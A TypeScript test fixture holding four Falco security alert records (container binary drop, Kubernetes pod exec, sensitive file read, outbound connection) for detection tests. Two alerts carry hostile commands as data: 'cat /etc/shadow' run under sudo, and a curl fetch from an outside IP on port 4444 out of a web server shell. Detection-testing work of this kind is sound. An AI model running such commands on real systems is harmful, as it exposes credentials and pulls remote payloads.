/**
 * Alerts for the grounding tests, as readAlerts hands them to the checks: nanosecond counters beyond 2^53 are
 * exact decimal strings. The first is seed alert romantic_jemison-iSBERh; the others are the upstream examples in
 * shared/falco/alert-examples, and one outbound-connection alert built on the same output format.
 */
export const DROP_EXEC = {
  uuid: '6f0d3c52-8d4e-4b8e-9a55-2b8a3c1f0e11',
  output:
    '18:26:49.455310091: Critical Executing binary not part of base image | proc_exe=/bin/falco-event-generator-syscall-DropAndExecuteNewBinaryInContainer-iSBERh proc_sname=event-generator gparent=containerd-shim proc_exe_ino_ctime=1728152809452000000 proc_exe_ino_mtime=1728152809452000000 proc_exe_ino_ctime_duration_proc_start=1538778621 proc_cwd=/ container_start_ts=1728152807913221470 evt_type=execve user=root user_uid=0 user_loginuid=-1 process=falco-event-gen proc_exepath=/bin/falco-event-generator-syscall-DropAndExecuteNewBinaryInContainer-iSBERh parent=event-generator command=falco-event-gen terminal=0 exe_flags=EXE_WRITABLE|EXE_UPPER_LAYER container_id=12d6b2377178 container_name=romantic_jemison',
  priority: 'Critical',
  rule: 'Drop and execute new binary in container',
  time: '2024-10-05T18:26:49.455310091Z',
  output_fields: {
    'container.id': '12d6b2377178',
    'container.name': 'romantic_jemison',
    'container.start_ts': '1728152807913221470',
    'evt.arg.flags': 'EXE_WRITABLE|EXE_UPPER_LAYER',
    'evt.time': '1728152809455310091',
    'evt.type': 'execve',
    'proc.aname[2]': 'containerd-shim',
    'proc.cmdline': 'falco-event-gen',
    'proc.cwd': '/',
    'proc.exe': '/bin/falco-event-generator-syscall-DropAndExecuteNewBinaryInContainer-iSBERh',
    'proc.exe_ino.ctime': '1728152809452000000',
    'proc.exe_ino.mtime': '1728152809452000000',
    'proc.exe_ino.ctime_duration_proc_start': 1538778621,
    'proc.exepath': '/bin/falco-event-generator-syscall-DropAndExecuteNewBinaryInContainer-iSBERh',
    'proc.name': 'falco-event-gen',
    'proc.pname': 'event-generator',
    'proc.sname': 'event-generator',
    'proc.tty': 0,
    'user.loginuid': -1,
    'user.name': 'root',
    'user.uid': 0,
  },
  source: 'syscall',
  tags: ['PCI_DSS_11.5.1', 'TA0003', 'container', 'maturity_stable', 'mitre_persistence', 'process'],
  hostname: 'mini-debian-lab',
};

export const K8S_EXEC = {
  hostname: 'my-pool-1-node-921b61',
  output:
    '09:29:46.302906000: Notice Attach/Exec to pod (user=kubernetes-admin pod=nginx-676b6c5bbc-4xc6t resource=pods ns=hello-app action=exec command=cat)',
  output_fields: {
    'evt.time': '1739179786302906000',
    'ka.target.name': 'nginx-676b6c5bbc-4xc6t',
    'ka.target.namespace': 'hello-app',
    'ka.target.resource': 'pods',
    'ka.target.subresource': 'exec',
    'ka.uri.param[command]': 'cat',
    'ka.user.name': 'kubernetes-admin',
  },
  priority: 'Notice',
  rule: 'Attach/Exec Pod',
  source: 'k8s_audit',
  tags: ['k8s'],
  time: '2025-02-10T09:29:46.302906000Z',
};

export const READ_SHADOW = {
  hostname: 'x86',
  output:
    '14:50:34.502309868: Warning Sensitive file opened for reading by non-trusted program (file=/etc/shadow gparent=sudo ggparent=zsh gggparent=kitty evt_type=openat user=root user_uid=0 user_loginuid=1000 process=cat proc_exepath=/usr/bin/cat parent=sudo command=cat /etc/shadow terminal=34820 container_id=host container_name=host)',
  output_fields: {
    'container.id': 'host',
    'container.name': 'host',
    'evt.time': '1746622234502309868',
    'evt.type': 'openat',
    'fd.name': '/etc/shadow',
    'proc.aname[2]': 'sudo',
    'proc.aname[3]': 'zsh',
    'proc.aname[4]': 'kitty',
    'proc.cmdline': 'cat /etc/shadow',
    'proc.exepath': '/usr/bin/cat',
    'proc.name': 'cat',
    'proc.pname': 'sudo',
    'proc.tty': 34820,
    'user.loginuid': 1000,
    'user.name': 'root',
    'user.uid': 0,
  },
  priority: 'Warning',
  rule: 'Read sensitive file untrusted',
  source: 'syscall',
  tags: ['T1555', 'container', 'filesystem', 'host', 'maturity_stable', 'mitre_credential_access'],
  time: '2025-05-07T12:50:34.502309868Z',
};

export const OUTBOUND = {
  hostname: 'worker-2',
  output:
    '07:12:03.118204551: Notice Disallowed outbound connection destination (connection=10.244.1.17:51234->185.220.101.4:4444 lport=51234 rport=4444 fd_type=ipv4 fd_proto=tcp evt_type=connect user=www-data user_uid=33 user_loginuid=-1 process=curl proc_exepath=/usr/bin/curl parent=sh command=curl -s http://185.220.101.4:4444/x terminal=0 container_id=3f9a2c7d1e8b container_name=web-7c9d)',
  output_fields: {
    'container.id': '3f9a2c7d1e8b',
    'container.name': 'web-7c9d',
    'evt.time': '1739171523118204551',
    'evt.type': 'connect',
    'fd.lport': 51234,
    'fd.name': '10.244.1.17:51234->185.220.101.4:4444',
    'fd.rip': '185.220.101.4',
    'fd.rport': 4444,
    'proc.cmdline': 'curl -s http://185.220.101.4:4444/x',
    'proc.exepath': '/usr/bin/curl',
    'proc.name': 'curl',
    'proc.pname': 'sh',
    'user.name': 'www-data',
    'user.uid': 33,
  },
  priority: 'Notice',
  rule: 'Disallowed outbound connection destination',
  source: 'syscall',
  tags: ['TA0011', 'host', 'maturity_sandbox', 'mitre_command_and_control', 'network'],
  time: '2025-02-10T07:12:03.118204551Z',
};
